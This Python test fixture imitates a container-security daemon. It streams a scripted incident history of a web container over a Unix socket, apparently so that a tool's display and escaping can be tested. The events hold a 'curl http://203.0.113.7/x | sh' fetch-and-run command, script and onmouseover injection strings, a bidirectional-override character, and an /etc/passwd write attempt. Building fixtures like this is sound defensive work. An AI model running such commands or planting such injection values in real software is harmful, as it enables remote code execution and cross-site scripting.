# SPDX-License-Identifier: Apache-2.0
"""history.py DIR: answers as paled does on DIR/events, with the history of a container that had a bad day."""
import json
import os
import socket
import sys

WEB = {"id": "web-1", "name": "web", "image": "registry.example/shop:1.2", "namespace": "shop", "pod": "web-7f"}
HOSTILE = '<script>document.title="x"</script>'


def at(second, kind, process=None, parent=None, **more):
    e = {"time": f"2026-11-26T10:00:{second:02d}.250000000Z", "kind": kind, "container": WEB}
    if process:
        e["process"] = {"host_pid": process, "pid": process - 400, "start_ns": process * 1000}
        e["parent"] = {"host_pid": parent, "pid": 0, "start_ns": parent * 1000}
    return e | more


def executed(second, process, parent, executable, *arguments):
    e = at(second, "exec", process, parent)
    e["process"] |= {"uid": 33, "executable": executable, "filename": executable, "arguments": list(arguments)}
    return e


def violation(second, process, operation, obj, line, rule):
    e = at(second, "violation", operation=operation, object=obj, outcome="refused", mechanism="bpf-lsm", profile="web", file="web.pale",
           line=line, column=9, rule=rule)
    return e | {"process": {"host_pid": process, "executable": "/usr/sbin/web"}}


HISTORY = [
    at(0, "policy", change="registered", profile="web", mode="enforce", digest="6db391d1c0cf"),
    executed(1, 411, 300, "/usr/sbin/web", "web", "--port", "8080"),
    at(2, "start", 412, 411),
    executed(2, 412, 411, "/bin/dash", "sh", "-c", f"curl http://203.0.113.7/x | sh # {HOSTILE}"),
    violation(3, 411, "write", "/etc/passwd", 22, "deny  write /etc/**"),
    violation(4, 412, "exec", f"/tmp/{HOSTILE}", 12, "deny exec drift"),
    at(5, "start", 413, 412),
    executed(5, 413, 412, "/usr/bin/curl", "curl", "http://203.0.113.7/x", "\" onmouseover=\"document.title='x'", "a\u202eb"),
    at(6, "connect", 413, 412, protocol="tcp", address="203.0.113.7", port=80, object="203.0.113.7:80"),
    at(7, "exit", 413, 412, signal=9, core_dumped=False),
    at(8, "exit", 412, 411, exit_code=126),
    at(9, "gap", reason="the kernel's buffer was full", entries=12),
]

os.makedirs(sys.argv[1], exist_ok=True)
listener = socket.socket(socket.AF_UNIX)
listener.bind(f"{sys.argv[1]}/events")
listener.listen()
print("ready", flush=True)
while True:
    c, _ = listener.accept()
    with c, c.makefile("rw", encoding="utf-8") as f:
        for line in f:
            assert json.loads(line)["method"] == "history", line
            for e in HISTORY:
                f.write(json.dumps({"version": 1, "ok": True, "continues": True, "event": e}) + "\n")
            f.write('{"version":1,"ok":true}\n')
            f.flush()
